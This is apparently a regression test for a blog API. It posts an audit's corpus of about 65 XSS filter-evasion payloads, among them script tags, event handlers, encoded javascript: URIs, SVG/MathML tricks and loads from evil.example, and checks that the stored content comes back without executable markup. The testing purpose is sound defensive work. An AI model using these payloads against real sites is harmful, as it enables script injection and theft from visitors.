/**
 * The audit's XSS corpus, kept as a regression test: filter-evasion vectors sent into a rich-text
 * field and a plain-text field of a news post. Whatever is stored and served back must hold no
 * executable markup: no script-capable element, no event handler, no style, and links and images
 * only to http(s), mail, phone or our own paths.
 */
import { describe, expect, it } from 'vitest';
import { signedInApp } from '../helpers/signed-in-app';
import { bearer } from '../helpers/test-app';

const ctx = signedInApp();

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<SCRIPT>alert(2);//<</SCRIPT>',
  '<img src=x onerror=alert(3)>',
  '<img src="x" onerror="alert(4)" />',
  '<IMG SRC="javascript:alert(5);">',
  '<img src=javascript:alert(6)>',
  '<img src=JaVaScRiPt:alert(7)>',
  '<img src=`javascript:alert(8)`>',
  '<img """><script>alert(9)</script>">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(10)>',
  '<img src="jav&#x09;ascript:alert(11);">',
  '<img src="jav&#x0A;ascript:alert(12);">',
  '<img src=" &#14;  javascript:alert(13);">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTQpPg==">',
  '<img dynsrc="javascript:alert(15)">',
  '<img lowsrc="javascript:alert(16)">',
  '<svg onload=alert(17)>',
  '<svg><script>alert(18)</script></svg>',
  '<svg><a xlink:href="javascript:alert(19)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(20)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(21)">x</mi></math>',
  '<iframe src="javascript:alert(22)"></iframe>',
  '<iframe srcdoc="<script>alert(23)</script>"></iframe>',
  '<object data="javascript:alert(24)"></object>',
  '<embed src="javascript:alert(25)">',
  '<a href="javascript:alert(26)">x</a>',
  '<a href="JAVASCRIPT:alert(27)">x</a>',
  '<a href=" javascript:alert(28)">x</a>',
  '<a href="jav&#x09;ascript:alert(29)">x</a>',
  '<a href="jav&#9;ascript:alert(30)">x</a>',
  '<a href="&#106;avascript:alert(31)">x</a>',
  '<a href="javascript&colon;alert(32)">x</a>',
  '<a href="vbscript:msgbox(33)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzNCk8L3NjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(35)">x</a>',
  '<a href="https://ok.example" onmouseover=alert(36)>x</a>',
  '<p onmouseover="alert(37)">x</p>',
  '<p style="background:url(javascript:alert(38))">x</p>',
  '<p style="width:expression(alert(39))">x</p>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(40)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<input onfocus=alert(41) autofocus>',
  '<body onload=alert(42)>',
  '<details open ontoggle=alert(43)>',
  '<video><source onerror="alert(44)"></video>',
  '<audio src=x onerror=alert(45)>',
  '<marquee onstart=alert(46)>x</marquee>',
  '<table background="javascript:alert(47)"><tr><td>x</td></tr></table>',
  '<div><![CDATA[<script>alert(48)</script>]]></div>',
  '<!--<img src="--><img src=x onerror=alert(49)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(50)>"></noscript>',
  '<template><script>alert(51)</script></template>',
  '<xmp><img src=x onerror=alert(52)></xmp>',
  '<p>"><script>alert(53)</script></p>',
  "<p>'';!--\"<XSS>=&{()}</p>",
  '<a href="https://ok.example" target="_blank">new tab</a>',
  '<h1>heading</h1><ul><li>item</li></ul><strong>ok</strong>',
];

/** Markup in `html` that could run script, style the page, or send a visitor elsewhere. */
function executable(html: string): string[] {
  const found: string[] = [];
  const tags = /<\/?\s*([a-z][\w:-]*)([^>]*)>/gi;
  for (const [whole, name = '', attrs = ''] of html.matchAll(tags)) {
    const tag = name.toLowerCase();
    if (
      /^(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|body|video|audio|source|details|marquee|template|noscript|xmp|table)$/.test(
        tag,
      )
    )
      found.push(`element ${whole}`);
    if (/\son[a-z]+\s*=/i.test(attrs)) found.push(`handler ${whole}`);
    if (/\sstyle\s*=/i.test(attrs)) found.push(`style ${whole}`);
    for (const [, attr = '', value = ''] of attrs.matchAll(
      /\s(href|src|dynsrc|lowsrc|xlink:href|action|data|background|srcdoc)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi,
    )) {
      const url = value
        .replace(/^["']|["']$/g, '')
        .replace(/&#x?[0-9a-f]+;?|&colon;|&tab;|&newline;/gi, '?')
        // Browsers drop whitespace and control characters inside a URL's scheme.
        // eslint-disable-next-line no-control-regex
        .replace(/[\s\u0000-\u001f]/g, '');
      const safe =
        /^(https?:|mailto:|tel:)/i.test(url) ||
        (/^\//.test(url) && !/^\/[/\\]/.test(url)) ||
        /^#/.test(url);
      if (!safe || attr.toLowerCase() === 'srcdoc') found.push(`${attr}=${value} in ${whole}`);
    }
  }
  return found;
}

describe('the XSS corpus', () => {
  it('the detector itself sees the raw vectors as executable', () => {
    // All but the three harmless controls at the end: quotes as text, a safe link, plain markup.
    expect(vectors.filter((v) => executable(v).length === 0)).toEqual(vectors.slice(-3));
  });

  it(`${vectors.length} vectors into rich and plain text come back with nothing executable`, async () => {
    const problems: string[] = [];
    for (const [i, vector] of vectors.entries()) {
      const created = await ctx.app.fastify.inject({
        method: 'POST',
        url: '/api/v1/blog',
        headers: bearer(ctx.sup),
        payload: {
          title: `Vector ${i}`,
          subtitle: vector.slice(0, 200),
          content: `<p>Before</p>${vector}`,
        },
      });
      if (created.statusCode === 400) continue; // Refused outright: nothing stored.
      expect(created.statusCode, vector).toBe(201);
      const id = created.json().blog._id as string;
      const served = (await ctx.app.fastify.inject({ url: `/api/v1/blog/${id}` })).json().blog;
      for (const field of ['subtitle', 'content'] as const) {
        for (const p of executable(String(served[field])))
          problems.push(`${vector} → ${field}: ${p}`);
      }
      // Plain text holds no markup at all.
      expect(String(served.subtitle), vector).not.toMatch(/<[a-z!/?][^>]*>/i);
    }
    expect(problems).toEqual([]);
  });

  it('a safe link keeps working, opened in a new tab without access to this page', async () => {
    const created = await ctx.app.fastify.inject({
      method: 'POST',
      url: '/api/v1/blog',
      headers: bearer(ctx.sup),
      payload: {
        title: 'Links',
        content: '<p><a href="https://ok.example" target="_blank">x</a></p>',
      },
    });
    expect(created.json().blog.content).toBe(
      '<p><a href="https://ok.example" target="_blank" rel="noopener noreferrer">x</a></p>',
    );
  });
});
